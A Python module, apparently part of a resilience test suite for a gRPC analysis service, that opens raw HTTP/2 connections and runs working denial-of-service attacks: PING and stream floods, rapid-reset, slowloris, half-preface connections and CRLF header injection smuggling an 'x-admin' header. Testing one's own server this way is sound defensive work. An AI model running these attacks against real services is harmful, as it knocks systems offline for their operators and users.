"""Attacks below gRPC: raw HTTP/2 connections that flood, dawdle or lie."""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator

import h2.config
import h2.connection
import h2.exceptions
import h2.settings

PATH = "/bonafide.v1.AnalysisService/Analyze"
PINGS = 50_000
STREAMS = 3000
RESETS = 20_000
DAWDLERS = 200
_BATCH = 200


class RawConnection:
    """One HTTP/2 connection whose frames are ours to choose; nothing is checked before it is sent."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), 10)
        self.socket.settimeout(10)
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> None:
        """Send what is waiting."""
        self.socket.sendall(self.h2.data_to_send())

    def close(self) -> None:
        """Hang up."""
        self.socket.close()

    def headers(self, *extra: tuple[str, str]) -> list[tuple[str, str]]:
        """The headers of a gRPC call."""
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PATH),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *extra,
        ]

    def open_stream(self, *extra: tuple[str, str]) -> int:
        """Begin a call; its number."""
        stream: int = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, self.headers(*extra))
        return stream

    def drain(self, seconds: float) -> list[str]:
        """Read for a while; the names of the events that came, until the server hung up."""
        names = []
        ends = time.monotonic() + seconds
        self.socket.settimeout(0.2)
        while time.monotonic() < ends:
            try:
                data = self.socket.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                names.append("ConnectionReset")
                break
            if not data:
                names.append("ConnectionClosed")
                break
            with contextlib.suppress(h2.exceptions.ProtocolError):
                names += [type(event).__name__ for event in self.h2.receive_data(data)]
        return names


@contextlib.contextmanager
def connection(address: str) -> Iterator[RawConnection]:
    """A raw connection, closed in the end."""
    raw = RawConnection(address)
    try:
        yield raw
    finally:
        raw.close()


def ping_flood(address: str) -> str:
    """As many PINGs as the server stands."""
    with connection(address) as raw:
        sent = 0
        try:
            while sent < PINGS:
                for _ in range(_BATCH):
                    raw.h2.ping(sent.to_bytes(8, "big"))
                    sent += 1
                raw.flush()
        except OSError:
            return f"cut off after {sent} of {PINGS} pings"
        return _ending(raw.drain(3.0), f"{sent} pings")


def stream_flood(address: str) -> str:
    """Thousands of calls begun on one connection and never ended."""
    with connection(address) as raw:
        # The limit on streams that a server announces is ignored: frames are written past h2's own check.
        raw.h2.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 30
        raw.h2.remote_settings.acknowledge()
        begun = 0
        try:
            while begun < STREAMS:
                for _ in range(_BATCH):
                    raw.open_stream()
                    begun += 1
                raw.flush()
        except (OSError, h2.exceptions.ProtocolError):
            return f"cut off after {begun} of {STREAMS} streams"
        return _ending(raw.drain(3.0), f"{begun} streams")


def rapid_reset(address: str) -> str:
    """Calls begun and reset at once, again and again."""
    with connection(address) as raw:
        begun = 0
        try:
            while begun < RESETS:
                for _ in range(_BATCH // 2):
                    raw.h2.reset_stream(raw.open_stream())
                    begun += 1
                raw.flush()
        except (OSError, h2.exceptions.ProtocolError):
            return f"cut off after {begun} of {RESETS} resets"
        return _ending(raw.drain(3.0), f"{begun} resets")


def slow_loris(address: str) -> str:
    """Hundreds of connections that send one byte of a call at a time, then stop."""
    raws = []
    refused = 0
    try:
        for _ in range(DAWDLERS):
            try:
                raw = RawConnection(address)
                raw.open_stream()
                raw.flush()
                raws.append(raw)
            except OSError:
                refused += 1
        for byte in b"\x00\x00\x00\x00\x40":
            for raw in raws:
                with contextlib.suppress(OSError, h2.exceptions.ProtocolError):
                    raw.h2.send_data(1, bytes([byte]))
                    raw.flush()
            time.sleep(1.0)
    finally:
        for raw in raws:
            raw.close()
    return f"{len(raws)} held for 5 s, {refused} refused"


def half_preface(address: str) -> str:
    """Connections that never finish saying that they speak HTTP/2."""
    host, _, port = address.rpartition(":")
    sockets = [socket.create_connection((host, int(port)), 10) for _ in range(DAWDLERS)]
    for each in sockets:
        each.sendall(b"PRI * HTTP/2.0\r\n")
    time.sleep(3.0)
    for each in sockets:
        each.close()
    return f"{len(sockets)} held for 3 s"


def header_injection(address: str) -> str:
    """Line breaks in header values and names, and headers that only a proxy may set."""
    answers = []
    for extra in (
        ("x-note", "a\r\nx-admin: 1"),
        ("x-note\r\nx-admin", "1"),
        ("grpc-timeout", "-1S"),
        ("content-length", "-5"),
        ("x-note-bin", "not base64 \x00"),
    ):
        with connection(address) as raw:
            raw.open_stream(extra)
            with contextlib.suppress(OSError):
                raw.flush()
            events = raw.drain(0.8)
            answers.append(
                "refused" if {"StreamReset", "ConnectionTerminated", "TrailersReceived"} & {*events} else "-"
            )
    return f"{answers.count('refused')} of {len(answers)} refused at once, the others ignored"


def _ending(events: list[str], what: str) -> str:
    cut = {"ConnectionTerminated", "ConnectionClosed", "ConnectionReset"} & {*events}
    return f"{what}: {'hung up on' if cut else 'borne'}"
